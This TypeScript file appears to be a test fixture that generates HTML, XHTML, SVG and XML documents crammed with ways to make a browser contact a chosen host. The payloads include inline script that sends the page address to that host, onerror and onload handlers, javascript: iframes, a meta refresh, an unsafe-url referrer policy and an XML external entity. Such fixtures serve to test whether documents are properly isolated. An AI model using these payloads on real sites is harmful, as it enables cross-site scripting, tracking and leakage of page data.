/** The types of documents that try in every way to contact another server and to send their address there. */
export const typesOfForms = {
  html: 'text/html',
  xhtml: 'application/xhtml+xml',
  svg: 'image/svg+xml',
  xml: 'text/xml',
} as const

export type HostileForm = keyof typeof typesOfForms

/** Marks the document when the script runs, and sends the address of the document. */
const script = (to: string) =>
  `document.documentElement.setAttribute('data-ran', ''); new Image().src = '${to}/script?' + encodeURIComponent(location.href)`

/** HTML elements that send requests automatically, written so that they are also XML. */
const elements = (to: string) => `
  <script>${script(to)}</script>
  <script src="${to}/script.js"></script>
  <link rel="stylesheet" href="${to}/style.css" />
  <link rel="icon" href="${to}/icon" />
  <link rel="prefetch" href="${to}/prefetch" />
  <link rel="preload" as="image" href="${to}/preload" />
  <link rel="modulepreload" href="${to}/module.js" />
  <link rel="manifest" href="${to}/manifest" />
  <link rel="prerender" href="${to}/prerender" />
  <style>@import url(${to}/import.css); @font-face { font-family: f; src: url(${to}/font) } body { background: url(${to}/background); font-family: f }</style>
  <img src="${to}/image" onerror="${script(to)}" alt="" />
  <img srcset="${to}/image-set 1x" alt="" />
  <picture><source srcset="${to}/picture" /><img alt="" /></picture>
  <iframe src="${to}/frame"></iframe>
  <iframe src="javascript:${script(to)}"></iframe>
  <object data="${to}/object"></object>
  <embed src="${to}/embed" />
  <video src="${to}/video" poster="${to}/poster"></video>
  <audio src="${to}/audio"></audio>
  <input type="image" src="${to}/input" alt="" />`

const head = (to: string) => `
  <base href="${to}/base/" />
  <meta name="referrer" content="unsafe-url" />
  <meta http-equiv="refresh" content="0;url=${to}/refresh" />`

const html = (to: string) => `<!doctype html><html><head>${head(to)}
  <script type="speculationrules">{"prefetch": [{"urls": ["${to}/speculation"]}]}</script></head>
  <body onload="${script(to)}">${elements(to)}</body></html>`

const xhtml = (to: string) =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>${head(to)}</head><body>${elements(to)}</body></html>`

const svg = (to: string) => `<?xml version="1.0"?><?xml-stylesheet href="${to}/style.css" type="text/css"?>
  <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${script(to)}">
  <script>${script(to)}</script><script href="${to}/script.js"/>
  <image href="${to}/image" width="9" height="9"/><use xlink:href="${to}/use#a"/>
  <style>@import url(${to}/import.css); svg { background: url(${to}/background) }</style>
  <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${elements(to)}</body></foreignObject></svg>`

const xml = (to: string) => `<?xml version="1.0"?><?xml-stylesheet href="${to}/style.xsl" type="text/xsl"?>
  <!DOCTYPE a [<!ENTITY e SYSTEM "${to}/entity">]>
  <a><html xmlns="http://www.w3.org/1999/xhtml"><head>${head(to)}</head><body>${elements(to)}</body></html></a>`

const written = { html, xhtml, svg, xml }

export const openForm = (form: HostileForm, to: string): string => written[form](to)
